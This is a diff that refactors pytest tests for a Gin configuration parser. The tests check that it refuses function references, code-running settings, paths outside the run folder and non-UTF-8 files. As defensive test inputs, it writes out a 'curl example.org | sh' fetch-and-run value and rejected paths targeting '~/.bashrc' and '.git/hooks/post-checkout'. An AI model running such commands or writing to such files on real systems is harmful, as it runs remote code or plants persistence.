@@ -23,13 +23,34 @@ from multiberts.tests.tools import warm
 CONFIGS = Path(__file__).parents[3] / "configs"
 
 
-def parse(*files: Path, typed: Sequence[str] = (), **options: Any) -> None:
+def parse(
+    *files: Path | str,
+    typed: Sequence[str] = (),
+    macro: str = "",
+    functions: Any = (),
+    **options: Any,
+) -> Any:
+    """Parses files; returns the value of a macro, or the bindings of functions by name."""
+    known = dict(functions)
     with gin.unlock_config():
         gin.clear_config()
+        for name, function in known.items():
+            gin.external_configurable(function, name=name)
         try:
-            parse_gin([str(file) for file in files], typed, **options)
+            parse_gin([str(file) for file in files], typed, known, **options)
+            if macro:
+                return gin.query_parameter(f"{macro}/gin.macro.value")
+            return {name: dict(gin.get_bindings(name)) for name in known}
         finally:
             gin.clear_config()
+
+
+def nested(folder: Path, content: str | bytes) -> tuple[Path, Path]:
+    """Writes a file and another that includes it."""
+    inner, outer = folder / "inner.gin", folder / "outer.gin"
+    inner.write_bytes(content if isinstance(content, bytes) else f"{content}\n".encode())
+    outer.write_text("include 'inner.gin'\n")
+    return inner, outer
 
 
 @pytest.mark.parametrize(
@@ -45,10 +66,7 @@ def parse(*files: Path, typed: Sequence[str] = (), **options: Any) -> None:
     ],
 )
 def test_a_reference_to_a_function_is_refused_before_it_acts(tmp_path: Path, text: str) -> None:
-    inner, outer = tmp_path / "inner.gin", tmp_path / "outer.gin"
-    inner.write_text(text + "\n")
-    outer.write_text(f"include '{inner}'\n")
-    for file in (inner, outer):
+    for file in nested(tmp_path, text):
         with pytest.raises(UserError, match=r"inner\.gin line \d: .*@") as refused:
             parse(file)
         assert "would run" in str(refused.value)
@@ -82,10 +100,8 @@ CODE = "{'worker_init': 'curl example.org | sh'}"
     ],
 )
 def test_what_runs_code_is_told_by_the_user(tmp_path: Path, text: str, named: str) -> None:
-    inner, outer = tmp_path / "inner.gin", tmp_path / "outer.gin"
-    inner.write_text(text + "\n")
-    outer.write_text(f"include '{inner}'\n")
-    for file in (inner, outer):
+    inner, _ = files = nested(tmp_path, text)
+    for file in files:
         message = rf"inner\.gin line \d sets {named}, whose code would run"
         with pytest.raises(UserError, match=message):
             parse(file)
@@ -166,21 +182,14 @@ def test_shipped_files_are_found_from_any_directory(
 ) -> None:
     monkeypatch.chdir(tmp_path)
     (tmp_path / "mine.gin").write_text("include 'configs/evaluate/scores.gin'\nRUN_DIR = 'here'\n")
-    with gin.unlock_config():
-        gin.clear_config()
-        gin.external_configurable(score, name="evaluate")
-        parse_gin(["mine.gin"], ["PREDICTIONS = 'there'"], {})
-        bound = gin.get_bindings("evaluate")
-        assert (bound["run_dir"], bound["predictions"]) == ("here", "there")
-        gin.clear_config()
+    functions = {"evaluate": score}
+    bound = parse("mine.gin", typed=["PREDICTIONS = 'there'"], functions=functions)["evaluate"]
+    assert (bound["run_dir"], bound["predictions"]) == ("here", "there")
     assert not caplog.records
     # One's own file of that name comes first.
     (tmp_path / "configs/evaluate").mkdir(parents=True)
     (tmp_path / "configs/evaluate/scores.gin").write_text("NUM_STEPS = 5\nOWN = True\n")
-    with gin.unlock_config():
-        parse_gin(["mine.gin"], [], {})
-        assert gin.query_parameter("OWN/gin.macro.value") is True
-        gin.clear_config()
+    assert parse("mine.gin", macro="OWN") is True
 
 
 def test_a_flag_sets_the_macro_that_its_parameter_is_bound_to(tmp_path: Path) -> None:
@@ -190,16 +199,9 @@ def test_a_flag_sets_the_macro_that_its_parameter_is_bound_to(tmp_path: Path) ->
     def f(a: str, b: object = None, c: int = 0, d: int = 0) -> None:
         """Is bound by Gin."""
 
-    def bound(**given: object) -> dict[str, object]:
-        with gin.unlock_config():
-            gin.clear_config()
-            gin.external_configurable(f, name="f")
-            known = {f"f.{name}": given.get(name) for name in "abcd"}
-            try:
-                parse_gin([str(file)], [], {"f": f}, given=known)
-                return dict(gin.get_bindings("f"))
-            finally:
-                gin.clear_config()
+    def bound(**given: object) -> Any:
+        known = {f"f.{name}": given.get(name) for name in "abcd"}
+        return parse(file, functions={"f": f}, given=known)["f"]
 
     # C has a default, B: a flag wins over it where it is read, and the macro stays.
     assert bound(a="x", c=7, d=2) == {"a": "x", "b": ["x", 1], "c": 1, "d": 2}
@@ -229,17 +231,19 @@ def compare(csv: str = "", run_dir: str = "") -> None:
 @pytest.mark.parametrize(
     ("path", "is_near"),
     [
-        ("table.csv", True),
-        ("./tables/table.csv", True),
-        ("$HERE/tables/../table.csv", True),
+        *(
+            (path, True)
+            for path in ("table.csv", "./tables/table.csv", "$HERE/tables/../table.csv")
+        ),
         ("$HOME/run/table.csv", True),
-        ("~/run/../.bashrc", False),
-        ("~/.bashrc", False),
-        ("~/table.csv", False),
-        ("../table.csv", False),
-        (".git/hooks/post-checkout", False),
-        ("link/table.csv", False),
-        ("data:table.csv", False),
+        *(
+            (path, False)
+            for path in ("~/run/../.bashrc", "~/.bashrc", "~/table.csv", "../table.csv")
+        ),
+        *(
+            (path, False)
+            for path in (".git/hooks/post-checkout", "link/table.csv", "data:table.csv")
+        ),
     ],
 )
 def test_a_file_names_files_below_the_folder_or_the_run(
@@ -257,15 +261,9 @@ def test_a_file_names_files_below_the_folder_or_the_run(
 
     def bound(file: str, typed: Sequence[str] = (), **flags: str) -> Any:
         (here / "a.gin").write_text(macro + file)
-        with gin.unlock_config():
-            gin.clear_config()
-            gin.external_configurable(compare, name="compare")
-            try:
-                given = run | {f"compare.{name}": value for name, value in flags.items()}
-                parse_gin(["a.gin"], typed, {"compare": compare}, given=given)
-                return gin.get_bindings("compare")["csv"]
-            finally:
-                gin.clear_config()
+        given = run | {f"compare.{name}": value for name, value in flags.items()}
+        functions = {"compare": compare}
+        return parse("a.gin", typed=typed, functions=functions, given=given)["compare"]["csv"]
 
     for file in (f"compare.csv = {path!r}\n", "compare.csv = %OUT\n"):
         if is_near:
@@ -309,10 +307,7 @@ def test_an_unset_variable_in_a_path_makes_no_folder(tmp_path: Path) -> None:
 
 
 def test_a_file_that_is_not_utf_8_is_refused(tmp_path: Path) -> None:
-    inner, outer = tmp_path / "inner.gin", tmp_path / "outer.gin"
-    inner.write_bytes("NAME = 1\nRUN_DIR = 'wörter'\n".encode("latin-1"))
-    outer.write_text("include 'inner.gin'\n")
-    for file in (inner, outer):
+    for file in nested(tmp_path, "NAME = 1\nRUN_DIR = 'wörter'\n".encode("latin-1")):
         with pytest.raises(UserError, match=r"inner\.gin line 2: byte 0xf6 .* UTF-8"):
             parse(file)
 
@@ -326,16 +321,8 @@ def test_an_include_is_looked_for_beside_its_file(
     (tmp_path / "exp" / "base.gin").write_text("include 'c.gin'\n")
     (tmp_path / "exp" / "c.gin").write_text("RUN_DIR = 'beside'\n")
     monkeypatch.chdir(tmp_path)
-
-    def run_dir() -> object:
-        with gin.unlock_config():
-            gin.clear_config()
-            parse_gin(["exp/a.gin"], [])
-            return gin.query_parameter("RUN_DIR/gin.macro.value")
-
-    assert (run_dir(), capsys.readouterr().err) == ("beside", "")
+    assert parse("exp/a.gin", macro="RUN_DIR") == "beside" and not capsys.readouterr().err
     (tmp_path / "base.gin").write_text("RUN_DIR = 'above'\n")
-    assert run_dir() == "above"
+    assert parse("exp/a.gin", macro="RUN_DIR") == "above"
     said = "exp/a.gin includes base.gin: that of the current directory is read"
     assert said in capsys.readouterr().err
-    gin.clear_config()
